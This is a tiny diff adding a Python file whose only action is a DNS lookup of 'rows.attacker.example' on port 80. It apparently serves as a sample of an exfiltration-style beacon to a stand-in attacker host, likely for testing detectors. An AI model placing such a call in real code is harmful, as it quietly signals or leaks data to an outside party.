@@ -1,0 +1,3 @@
+import socket
+
+socket.getaddrinfo("rows.attacker.example", 80)
